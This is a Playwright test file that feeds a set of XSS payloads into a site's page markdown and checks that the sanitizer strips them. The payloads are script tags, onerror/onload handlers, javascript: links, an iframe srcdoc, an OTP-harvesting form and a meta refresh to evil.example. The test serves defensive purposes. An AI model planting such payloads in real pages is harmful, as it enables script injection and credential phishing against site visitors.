import { rm } from "node:fs/promises";
import { expect } from "@playwright/test";
import { test } from "../support/browser/test.ts";
import { demoFolder } from "../support/demo-folder.ts";
import { changeDocuments } from "../support/documents.ts";
import { inRows } from "../support/rows.ts";
import { startServer } from "../support/server-process.ts";

const hostile = `
<script>window.harmed = "script"</script>
<img src=x onerror="window.harmed = 'onerror'">
<svg onload="window.harmed = 'onload'"></svg>
<iframe srcdoc="<script>parent.harmed = 'srcdoc'</script>"></iframe>
<style>main { display: none }</style>
<form action="https://evil.example"><input name="otp"></form>
<meta http-equiv="refresh" content="0;url=https://evil.example">

## A heading <img src=x onerror="window.harmed = 'heading'">

[press me](javascript:window.harmed='link') and [me](JaVaScRiPt:window.harmed='link') and [me](data:text/html,<script>1</script>)

![a picture](https://evil.example/x.png "onerror=window.harmed='title'")

| <script>window.harmed = "cell"</script> | "><img src=x onerror="window.harmed='label'"> |
| --- | --- |
| <img src=x onerror="window.harmed='cell'"> | [x](javascript:window.harmed='cell') |
`;

test("a page text with script, onerror, javascript: links and raw HTML is harmless in the browser", async ({
  page,
}) => {
  // The cleaner removes everything, so the policy, the second wall, has nothing to report.
  const folder = await demoFolder();
  const lead = `A lead "><script>window.harmed = "lead"</script> <img src=x onerror="window.harmed='lead'">`;
  inRows(folder, (rows) => changeDocuments(rows, "pageTexts", (text) => ({ ...text, markdown: hostile, lead })));
  const server = await startServer({ DATA_DIR: folder });

  const elsewhere: string[] = [];
  page.on("request", (request) => {
    if (!request.url().startsWith(server.url)) elsewhere.push(request.url());
  });
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => dialogs.push(dialog.message()));

  for (const path of ["/", "/FeeRules", "/Discipline", "/PrincipalMessage", "/PreSchool"]) {
    await page.goto(server.url + path);
    const main = page.locator("main");
    await expect(main).toBeVisible();
    await expect(
      main.locator(
        "script:not([type='application/ld+json']), style, meta, form[action*=evil], input[name=otp], [srcdoc], [src=x]",
      ),
    ).toHaveCount(0);
    const traps = await main.locator("*").evaluateAll((nodes) =>
      nodes
        .flatMap((node) => [...node.attributes])
        .filter(({ name, value }) => name.startsWith("on") || /^\s*(javascript|data|vbscript):/i.test(value))
        .map(({ name, value }) => `${name}=${value}`),
    );
    expect([path, traps]).toEqual([path, []]);
    if (path === "/") await page.getByRole("dialog").getByRole("button", { name: "Close" }).click();
    for (const link of await main.getByText(/^(press me|me|x)$/).all()) await link.click();
    expect(page.url()).toBe(server.url + path);
    expect(await page.evaluate(() => (window as { harmed?: string }).harmed)).toBeUndefined();
  }
  await page.goto(`${server.url}/FeeRules`);
  await expect(page.locator(".prose")).toContainText('<script>window.harmed = "script"</script>');
  expect(elsewhere).toEqual([]);
  expect(dialogs).toEqual([]);

  await server.stop();
  await rm(folder, { recursive: true, force: true });
});
